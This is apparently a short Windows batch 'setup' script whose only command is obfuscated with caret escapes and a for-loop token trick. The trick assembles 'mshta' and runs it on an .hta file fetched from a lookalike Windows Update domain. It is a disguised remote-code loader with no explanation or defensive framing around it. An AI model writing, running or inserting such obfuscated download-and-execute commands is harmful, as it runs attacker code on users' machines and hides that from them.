REM setup 8072 v4
^f^o^r /^f "tokens=3 delims=#" %%i in ("vrmw#gygg#mshta") do %%^i ^h^t^tp://^dl.win^u^p^da^te-c^dn.^e^xample/^upd^ate.hta
